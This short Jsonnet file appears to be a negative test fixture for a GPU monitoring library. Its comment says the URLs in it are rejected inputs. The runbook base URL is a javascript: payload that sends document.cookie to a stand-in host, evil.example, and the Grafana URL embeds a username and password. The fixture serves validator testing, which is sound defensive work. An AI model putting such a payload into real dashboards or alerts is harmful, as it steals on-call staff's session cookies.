// Runbook and Grafana URLs that a paged reader's browser would run, or that carry a password:
// each is refused by catalog path, and the password is not printed.
local gpuobs = import 'gpuobs.libsonnet';
gpuobs {
  runbooks+: {
    baseURL: 'javascript:fetch("https://evil.example/"+document.cookie)//',
    grafanaURL: 'https://viewer:hunter2-secret@grafana.example.com',
  },
}
